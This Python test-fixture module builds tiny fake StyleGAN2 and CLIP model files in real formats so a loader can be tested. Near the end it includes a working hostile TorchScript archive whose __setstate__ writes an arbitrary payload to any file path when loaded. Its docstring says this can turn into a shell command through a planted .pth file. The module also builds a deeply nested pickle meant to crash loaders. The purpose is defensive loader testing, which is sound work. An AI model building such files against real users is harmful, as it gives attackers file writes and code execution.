"""Fabricate model files in the exact on-disk formats real users bring.

No real StyleGAN2 or CLIP weights can be obtained on these machines, so the tests write tiny
random models in exactly the real formats: NVlabs network pickles with the persistence records of
formats.md §1.2-1.4 (plain pickle, protocols 2-5, and PTI's torch.save archive), rosinality .pt,
and open_clip / OpenAI CLIP files. The fake ``torch_utils`` / ``dnnlib`` modules registered here
exist only while *writing* a file; the loader must never need them.
"""
from __future__ import annotations

import pickle
import sys
import types
from collections import OrderedDict
from pathlib import Path
from typing import Any

import numpy as np
import torch

from coral_core.stylegan import Generator, GeneratorConfig
from coral_core.stylegan.layers import (FullyConnectedLayer, MappingNetwork, ResnetSkip,
                                        SynthesisBlock, SynthesisLayer, ToRGBLayer)
from coral_core.stylegan.generator import SynthesisNetwork

NVLABS_SOURCE = '''"""networks.py (stand-in source text stored in fabricated pickles)."""
import torch
from torch_utils import persistence
'''


def _install_fake_modules() -> tuple[Any, type]:
    if "torch_utils.persistence" in sys.modules and "dnnlib.util" in sys.modules:
        return (sys.modules["torch_utils.persistence"]._reconstruct_persistent_obj,
                sys.modules["dnnlib.util"].EasyDict)
    tu = types.ModuleType("torch_utils")
    pers = types.ModuleType("torch_utils.persistence")

    def _reconstruct_persistent_obj(meta: Any) -> Any:  # pragma: no cover - must never run
        raise AssertionError("the fabricated stub was called: a loader executed the pickle")

    _reconstruct_persistent_obj.__module__ = "torch_utils.persistence"
    _reconstruct_persistent_obj.__qualname__ = "_reconstruct_persistent_obj"
    pers._reconstruct_persistent_obj = _reconstruct_persistent_obj
    dn = types.ModuleType("dnnlib")
    util = types.ModuleType("dnnlib.util")

    class EasyDict(dict):
        pass

    EasyDict.__module__ = "dnnlib.util"
    EasyDict.__qualname__ = "EasyDict"
    util.EasyDict = EasyDict
    sys.modules.update({"torch_utils": tu, "torch_utils.persistence": pers, "dnnlib": dn,
                        "dnnlib.util": util})
    return _reconstruct_persistent_obj, EasyDict


class PersistentObj:
    """Pickles exactly like an NVlabs ``persistent_class`` instance."""

    def __init__(self, class_name: str, state: dict[str, Any], module_src: str) -> None:
        self.class_name, self.state, self.module_src = class_name, state, module_src

    def __reduce__(self) -> Any:
        recon, _ = _install_fake_modules()
        meta = dict(type="class", version=6, module_src=self.module_src,
                    class_name=self.class_name, state=self.state)
        return (recon, (meta,), None)


def _hooks() -> dict[str, Any]:
    names = ["_forward_hooks", "_forward_pre_hooks", "_backward_hooks", "_state_dict_hooks",
             "_load_state_dict_pre_hooks", "_backward_pre_hooks", "_forward_hooks_with_kwargs",
             "_forward_hooks_always_called", "_forward_pre_hooks_with_kwargs",
             "_state_dict_pre_hooks", "_load_state_dict_post_hooks"]
    out: dict[str, Any] = {n: OrderedDict() for n in names}
    out["_is_full_backward_hook"] = None
    return out


def _attrs(module: torch.nn.Module, cfg: GeneratorConfig) -> tuple[str, dict[str, Any]]:
    f64 = np.float64
    if isinstance(module, Generator):
        return "Generator", dict(z_dim=cfg.z_dim, c_dim=0, w_dim=cfg.w_dim,
                                 img_resolution=cfg.img_resolution,
                                 img_channels=cfg.img_channels, num_ws=cfg.num_ws)
    if isinstance(module, MappingNetwork):
        return "MappingNetwork", dict(z_dim=cfg.z_dim, c_dim=0, w_dim=cfg.w_dim,
                                      num_ws=cfg.num_ws, num_layers=cfg.mapping_layers,
                                      w_avg_beta=cfg.w_avg_beta)
    if isinstance(module, FullyConnectedLayer):
        return "FullyConnectedLayer", dict(activation=module.activation,
                                           weight_gain=f64(module.weight_gain),
                                           bias_gain=module.bias_gain)
    if isinstance(module, SynthesisNetwork):
        return "SynthesisNetwork", dict(w_dim=cfg.w_dim, img_resolution=cfg.img_resolution,
                                        img_resolution_log2=cfg.resolution_log2,
                                        img_channels=cfg.img_channels,
                                        block_resolutions=cfg.block_resolutions,
                                        num_ws=cfg.num_ws)
    if isinstance(module, SynthesisBlock):
        return "SynthesisBlock", dict(in_channels=module.in_channels, w_dim=cfg.w_dim,
                                      resolution=module.resolution,
                                      img_channels=cfg.img_channels, is_last=module.is_last,
                                      architecture=module.architecture, use_fp16=False,
                                      channels_last=False, num_conv=module.num_conv,
                                      num_torgb=module.num_torgb)
    if isinstance(module, SynthesisLayer):
        return "SynthesisLayer", dict(resolution=module.resolution, up=module.up,
                                      use_noise=module.use_noise, activation="lrelu",
                                      conv_clamp=module.conv_clamp, padding=1,
                                      act_gain=f64(np.sqrt(2)))
    if isinstance(module, ToRGBLayer):
        return "ToRGBLayer", dict(conv_clamp=module.conv_clamp,
                                  weight_gain=f64(module.weight_gain))
    if isinstance(module, ResnetSkip):
        return "Conv2dLayer", dict(activation="linear", up=2, down=1, conv_clamp=None,
                                   padding=0, act_gain=f64(1.0),
                                   weight_gain=f64(module.weight_gain))
    raise TypeError(type(module))


def _record(module: torch.nn.Module, cfg: GeneratorConfig, src: str) -> PersistentObj:
    _, EasyDict = _install_fake_modules()
    class_name, attrs = _attrs(module, cfg)
    state: dict[str, Any] = {
        "training": False,
        "_parameters": OrderedDict((k, torch.nn.Parameter(v.detach().clone(),
                                                          requires_grad=False))
                                   for k, v in module._parameters.items()),
        "_buffers": OrderedDict((k, v.detach().clone()) for k, v in module._buffers.items()),
        "_non_persistent_buffers_set": set(),
        "_modules": OrderedDict((k, _record(m, cfg, src)) for k, m in module._modules.items()),
        "_init_args": (),
        "_init_kwargs": EasyDict(),
    }
    state.update(_hooks())
    if isinstance(module, Generator):
        state["_init_kwargs"] = dict(
            z_dim=cfg.z_dim, c_dim=0, w_dim=cfg.w_dim, img_resolution=cfg.img_resolution,
            img_channels=cfg.img_channels,
            mapping_kwargs=EasyDict(num_layers=cfg.mapping_layers),
            synthesis_kwargs=EasyDict(channel_base=cfg.channel_base,
                                      channel_max=cfg.channel_max, num_fp16_res=4,
                                      conv_clamp=cfg.conv_clamp,
                                      architecture=cfg.architecture))
    state.update(attrs)
    return PersistentObj(class_name, state, src)


def discriminator_record(src: str = NVLABS_SOURCE) -> PersistentObj:
    _, EasyDict = _install_fake_modules()
    state = {"training": False, "_parameters": OrderedDict(),
             "_buffers": OrderedDict(), "_non_persistent_buffers_set": set(),
             "_modules": OrderedDict(), "_init_args": (), "_init_kwargs": EasyDict(c_dim=0)}
    state["_parameters"]["b4.fc.weight"] = torch.nn.Parameter(torch.randn(8, 16))
    return PersistentObj("Discriminator", state, src)


def tiny_config(**overrides: Any) -> GeneratorConfig:
    base = dict(img_resolution=32, z_dim=32, w_dim=32, mapping_layers=2, channel_base=256,
                channel_max=32, conv_clamp=256.0)
    base.update(overrides)
    return GeneratorConfig(**base)  # type: ignore[arg-type]


def random_generator(cfg: GeneratorConfig | None = None, seed: int = 0) -> Generator:
    """A tiny generator with non-trivial random weights (including w_avg, noise strengths)."""
    cfg = cfg or tiny_config()
    torch.manual_seed(seed)
    G = Generator(cfg)
    with torch.no_grad():
        for name, p in G.named_parameters():
            if name.endswith("noise_strength"):
                p.copy_(torch.rand(()) * 0.2)
            elif name.endswith("bias") and "affine" not in name:
                p.copy_(torch.randn_like(p) * 0.1)
        G.mapping.w_avg.copy_(torch.randn(cfg.w_dim) * 0.3)
    return G.eval().requires_grad_(False)


def nvlabs_network_dict(G: Generator, src: str = NVLABS_SOURCE) -> dict[str, Any]:
    rec = _record(G, G.cfg, src)
    return {"G": rec, "D": discriminator_record(src), "G_ema": rec,
            "augment_pipe": None,
            "training_set_kwargs": {"class_name": "training.dataset.ImageFolderDataset",
                                    "path": "ffhq.zip", "resolution": G.cfg.img_resolution}}


def write_nvlabs_pickle(G: Generator, path: Path, protocol: int = 4,
                        src: str = NVLABS_SOURCE, top: dict[str, Any] | None = None) -> Path:
    data = pickle.dumps(top if top is not None else nvlabs_network_dict(G, src),
                        protocol=protocol)
    path.write_bytes(data)
    return path


def write_pti_generator(G: Generator, path: Path, src: str = NVLABS_SOURCE) -> Path:
    """torch.save(G) as PTI writes its tuned generators: a zip whose data.pkl holds records."""
    torch.save(_record(G, G.cfg, src), path)
    return path


def write_rosinality(G: Generator, path: Path, training_checkpoint: bool = False) -> Path:
    import argparse

    from coral_core.formats import nvlabs_to_rosinality

    ckpt = nvlabs_to_rosinality(G)
    if training_checkpoint:
        ckpt = {"g": ckpt["g_ema"], "d": {"convs.0.0.weight": torch.randn(4, 3, 1, 1)},
                "g_ema": ckpt["g_ema"], "g_optim": {}, "d_optim": {},
                "args": argparse.Namespace(size=G.cfg.img_resolution, n_mlp=2),
                "ada_aug_p": 0.0}
    torch.save(ckpt, path)
    return path


TINY_CLIP_CFG = {
    "embed_dim": 32,
    "vision_cfg": {"image_size": 32, "layers": 2, "width": 64, "patch_size": 8},
    "text_cfg": {"context_length": 16, "vocab_size": 49408, "width": 64, "heads": 1,
                 "layers": 2},
}


def tiny_open_clip(seed: int = 0) -> torch.nn.Module:
    """A random-init tiny open_clip ViT whose state dict has the real OpenAI key layout."""
    import open_clip
    from open_clip.model import CLIP

    torch.manual_seed(seed)
    model = CLIP(**TINY_CLIP_CFG, quick_gelu=True)
    with torch.no_grad():
        for p in model.parameters():  # break symmetry of zero-initialised tensors
            p.add_(torch.randn_like(p) * 0.02)
        for name in ("positional_embedding", "text_projection", "logit_scale"):
            # OpenAI archives store these in float16; round so every format holds equal values
            getattr(model, name).copy_(getattr(model, name).half().float())
    del open_clip
    return model.eval()


def write_clip_files(folder: Path, seed: int = 0) -> dict[str, Path]:
    """The same tiny CLIP as a state dict (.bin, .safetensors), an OpenAI-style TorchScript
    archive, and an open_clip local-dir folder."""
    import json

    from safetensors.torch import save_file

    model = tiny_open_clip(seed)
    folder.mkdir(parents=True, exist_ok=True)
    sd = {k: v.detach().clone().contiguous() for k, v in model.state_dict().items()}
    out = {"bin": folder / "tiny_clip.bin", "safetensors": folder / "tiny_clip.safetensors"}
    torch.save(sd, out["bin"])
    save_file(sd, str(out["safetensors"]))
    cfg = {"model_cfg": dict(TINY_CLIP_CFG, quick_gelu=True),
           "preprocess_cfg": {"mean": [0.48145466, 0.4578275, 0.40821073],
                              "std": [0.26862954, 0.26130258, 0.27577711],
                              "interpolation": "bicubic", "resize_mode": "shortest"}}
    (folder / "open_clip_config.json").write_text(json.dumps(cfg))
    local = folder / "local_dir"
    local.mkdir(exist_ok=True)
    (local / "open_clip_config.json").write_text(json.dumps(cfg))
    save_file(sd, str(local / "open_clip_model.safetensors"))
    out["local_dir"] = local
    # OpenAI's archives are scripted CLIP modules whose state dict is the CLIP keys plus three
    # 0-dim int tensors; a module with the same children and tensors reproduces that layout.
    archive = _OpenAIArchive(model)
    scripted = torch.jit.script(archive)
    out["torchscript"] = folder / "ViT-tiny.pt"
    scripted.save(str(out["torchscript"]))
    return out


class _OpenAIArchive(torch.nn.Module):
    def __init__(self, clip: torch.nn.Module) -> None:
        super().__init__()
        for name in ("visual", "transformer", "token_embedding", "ln_final"):
            setattr(self, name, getattr(clip, name))
        for name in ("positional_embedding", "text_projection", "logit_scale"):
            setattr(self, name, torch.nn.Parameter(getattr(clip, name).detach().half()))
        self.register_buffer("input_resolution", torch.tensor(32))
        self.register_buffer("context_length", torch.tensor(16))
        self.register_buffer("vocab_size", torch.tensor(49408))

    def forward(self, text: torch.Tensor) -> torch.Tensor:
        x = self.token_embedding(text) + self.positional_embedding.float()
        return self.ln_final(x) @ self.text_projection.float()


class _SetstateWriter(torch.nn.Module):
    """A scripted module whose TorchScript ``__setstate__`` overwrites ``target`` through
    ``torch.from_file(shared=True)`` when the archive is loaded by ``torch.jit.load``: the
    attack of the hostile-files issue (writing a ``.pth`` into site-packages turns it into a
    shell command at the next Python start)."""

    def __init__(self, target: str, payload: str) -> None:
        super().__init__()
        self.weight = torch.nn.Parameter(torch.zeros(3))
        self.target = target
        self.payload = torch.tensor(list(payload.encode()), dtype=torch.uint8)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.weight

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, torch.Tensor, bool]:
        return (self.weight, self.target, self.payload, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, torch.Tensor, bool]) -> None:
        self.target = state[1]
        self.payload = state[2]
        self.training = state[3]
        mapped = torch.from_file(self.target, True, self.payload.numel(), dtype=torch.uint8)
        mapped.copy_(self.payload)
        self.weight = state[0] + mapped[:3].float() * 0  # keeps the write alive


def write_hostile_torchscript(path: Path, target: Path, payload: str) -> Path:
    """A TorchScript archive that writes ``payload`` to ``target`` if it is ever executed."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(_SetstateWriter(str(target), payload)).save(str(path))
    return path


def deep_pickle(depth: int = 200_000) -> bytes:
    """A pickle whose objects nest ``depth`` levels (a 200,000-deep one segfaulted loaders)."""
    return b"\x80\x04}" + b")" + b"\x85" * depth + b"K\x01s."


def torch_zip(path: Path, data_pkl: bytes, compress: bool = False) -> Path:
    """A torch.save-style zip archive holding ``data_pkl`` as its pickle."""
    import zipfile

    mode = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", compression=mode) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/version", "3\n")
    return path
